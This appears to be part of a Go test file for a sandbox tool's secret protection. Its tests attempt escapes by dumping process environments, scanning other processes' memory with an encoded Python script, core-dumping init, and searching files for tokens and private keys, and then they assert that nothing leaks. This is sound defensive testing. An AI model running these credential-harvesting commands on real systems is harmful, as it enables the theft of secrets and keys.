		{name: "the proxy's certificate", cmd: `echo | openssl s_client -proxy 127.0.0.1:3128 -connect example.com:` + tp + ` -servername example.com -CAfile /.boxsh/egress-ca.crt 2>&1 | grep -E "^(subject|issuer)=|Verify return code|DNS:" ; echo | openssl s_client -proxy 127.0.0.1:3128 -connect example.com:` + tp + ` -servername example.com 2>/dev/null | openssl x509 -noout -ext subjectAltName`, want: []string{"subject=CN = example.com", "issuer=O = boxsh, CN = boxsh egress CA", "Verify return code: 0 (ok)", "DNS:example.com"}, nowant: []string{"DNS:evil", "*"}},
		// The control: the secret's host verified by --ca-file.
		{name: "control", cmd: tunnelAttack("connect", "example.com", tp, "example.com", get("/t5", "example.com")), path: "/t5", want: []string{"issuer=boxsh", "200 OK"}, reach: []string{"example.com"}},
	}
	t.Run("ca-file", func(t *testing.T) {
		runAttacks(t, o, []string{"--secret", "GH_TOKEN=example.com,wrong.example", "--ca-file", o.pem, "--allow-domain", "evil.test"}, rows)
	})
	t.Run("no ca-file", func(t *testing.T) {
		// Without --ca-file the host's roots do not have httptest's: no server is believed.
		runAttacks(t, o, []string{"--secret", "GH_TOKEN=example.com"}, []attack{
			{name: "self-signed upstream", cmd: tunnelAttack("connect", "example.com", tp, "example.com", get("/t6", "example.com")), path: "/t6", want: []string{"issuer=boxsh", "502", "certificate"}},
		})
	})
	checkValuesWent(t, o, map[string][]string{ghValue: {"example.com"}})
}

// needle is a regular expression that matches the value v and not itself,
// so that a search in the sandbox never holds v.
func needle(v string) string { return v[:6] + "[" + v[6:7] + "]" + v[7:] }

// memScanPy reads the memory of every other process of the sandbox it
// can and counts where it finds the needle given in two halves (joined in
// its own memory only) or a private key's PEM header.
const memScanPy = `
import os, re, sys
n = (sys.argv[1] + sys.argv[2]).encode()
key = b'PRIVATE' + b' KEY-----'
readable = found = 0
for pid in os.listdir('/proc'):
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    try:
        maps = open('/proc/%s/maps' % pid).read().splitlines()
        mem = open('/proc/%s/mem' % pid, 'rb', 0)
    except Exception as e:
        print('pid', pid, 'unreadable:', type(e).__name__)
        continue
    got = 0
    for line in maps:
        a, b = (int(x, 16) for x in line.split()[0].split('-'))
        if 'r' not in line.split()[1] or b - a > 1 << 30:
            continue
        try:
            mem.seek(a)
            chunk = mem.read(b - a)
        except Exception:
            continue
        got += len(chunk)
        found += chunk.count(n) + chunk.count(key)
    readable += got > 0
    print('pid', pid, 'read', got, 'bytes')
print('found=%d readable=%d' % (found, readable))
`

// TestSecretEscapeReading is the family of reads: the variables and
// command lines of every process (boxsh-init's too, and those a server
// starts while a loop reads them), the files of /.boxsh, /etc/ssl, /tmp,
// /run and the audit log, the memory of every process and a core dump of
// boxsh-init, and what the server's tools say: no value, no key of the
// proxy's CA.
func TestSecretEscapeReading(t *testing.T) {
	requireRootless(t)
	o := startOrigins(t, []string{"api.example.com"}, nil)
	p := o.port("api.example.com")
	half := len(ghValue) / 2
	rows := []attack{
		{name: "variables and command lines", cmd: `env; for f in /proc/[0-9]*; do echo "== $f"; tr '\0' '\n' < $f/environ; tr '\0' ' ' < $f/cmdline; echo; done`, want: []string{"GH_TOKEN={S}", "boxsh-init"}},
		{name: "files", cmd: `grep -rlaE '` + needle(ghValue) + `' /.boxsh /etc/ssl /tmp /run /var/run /dev/shm /etc/resolv.conf 2>/dev/null; echo files-done`},
		{name: "private keys in files", cmd: `grep -rlaE 'PRIVATE[ ]KEY' /.boxsh /etc/ssl /tmp /run 2>/dev/null; echo keys-done`},
		{name: "memory", cmd: `echo ` + base64.StdEncoding.EncodeToString([]byte(memScanPy)) + ` | base64 -d > /tmp/mem.py; python3 /tmp/mem.py ` + ghValue[:half] + ` ` + ghValue[half:], want: []string{"found=0"}},
		{name: "core dump of boxsh-init", cmd: `gcore -o /tmp/core 1 >/dev/null 2>&1; ls /tmp/core.* 2>/dev/null | wc -l; cat /tmp/core.* 2>/dev/null | grep -caE '` + needle(ghValue) + `'; echo core-done`},
		{name: "a request's answer", cmd: `curl -sS --max-time 10 -H "Authorization: Bearer $GH_TOKEN" http://api.example.com:` + p + `/read1`, path: "/read1", want: []string{"origin api.example.com"}, reach: []string{"api.example.com"}},
	}
	_, out := runAttacks(t, o, []string{"--secret", "GH_TOKEN=api.example.com"}, rows)
	assert.Equal(t, "files-done", out[1], "no file holds the value")
	assert.Equal(t, "keys-done", out[2], "no file holds a private key")
	assert.Regexp(t, `readable=[1-9]`, out[3], "the scan read some process's memory")
	assert.Regexp(t, `^[0-9]+\n0\ncore-done$`, out[4], "no core holds the value")
	t.Logf("memory scan:\n%s\ncore:\n%s", out[3], out[4])

	t.Run("server", func(t *testing.T) {
		// A server: a loop reads every process's variables and command
		// line while bash calls and terminals start. libcontainer's init
		// runs only while the sandbox starts, before any command can look,
		// and with no variable of the front's (runc's newParentProcess).
		ctx := testContext(t)
		dir := t.TempDir()
		audit := filepath.Join(dir, "audit.jsonl")
		s := startServer(t, ctx, serverOptions{
			args: []string{"--sandbox", "--secret", "GH_TOKEN=api.example.com", "--audit", audit, "--bind", "ro:" + dir},
			env:  []string{"GH_TOKEN=" + ghValue},
		})
		var raws []string
		loop := `setsid sh -c 'end=$(($(date +%s)+60)); n=0; while [ ! -e /tmp/stop ] && [ $(date +%s) -lt $end ]; do cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | grep -caE "` + needle(ghValue) + `" >> /tmp/race; n=$((n+1)); done; echo "$n" > /tmp/race.done' </dev/null >/dev/null 2>&1 & echo started`
		first := s.bash(loop)
		require.Equal(t, "started\n", first.Stdout, "%+v", first)
		for i := range 5 {
			m := s.call("bash", map[string]any{"command": `echo "$GH_TOKEN" | wc -c; curl -sS --max-time 10 -H "Authorization: Bearer $GH_TOKEN" http://api.example.com:` + p + fmt.Sprintf("/read-rpc%d", i)})
			raws = append(raws, string(m.Raw))
			m = s.call("run_in_terminal", map[string]any{"command": `env | grep TOKEN; cat /proc/self/environ | tr '\0' '\n' | grep -c TOKEN`})
			raws = append(raws, string(m.Raw))
		}
		for _, name := range []string{"sandbox_stats", "network_policy", "list_terminals"} {
			raws = append(raws, string(s.call(name, map[string]any{}).Raw))
		}
		last := s.bash(`touch /tmp/stop; end=$(($(date +%s)+30)); while [ ! -e /tmp/race.done ] && [ $(date +%s) -lt $end ]; do sleep 0.05; done; echo "rounds=$(cat /tmp/race.done)"; sort /tmp/race | uniq -c; cat ` + audit + `; echo audit-read`)
		raws = append(raws, last.Stdout, last.Stderr)
		t.Logf("the loop and the audit log:\n%s", last.Stdout)
		assert.Regexp(t, `rounds=[1-9]`, last.Stdout, "the loop ran")
		assert.Contains(t, last.Stdout, `"GH_TOKEN"`, "the sandbox read the audit log")
		assert.Regexp(t, `(?m)^\s*[0-9]+ 0$`, last.Stdout, "it read variables and found no value")
		assert.NotRegexp(t, `(?m)^\s*[0-9]+ [1-9]`, last.Stdout, "a read found the value")
		for _, raw := range raws {
			assert.NotContains(t, raw, ghValue)
		}
		assert.Len(t, o.at("/read-rpc4"), 1, "the server's commands used the secret")
		s.stop()
		assert.NotContains(t, s.stderr.String(), ghValue, "the front's log")
		b, err := os.ReadFile(audit)
		require.NoError(t, err)
		assert.Contains(t, string(b), `"GH_TOKEN"`, "the audit log names the secret")
		assert.NotContains(t, string(b), ghValue, "the audit log")
	})
	checkValuesWent(t, o, map[string][]string{ghValue: {"api.example.com"}})
}
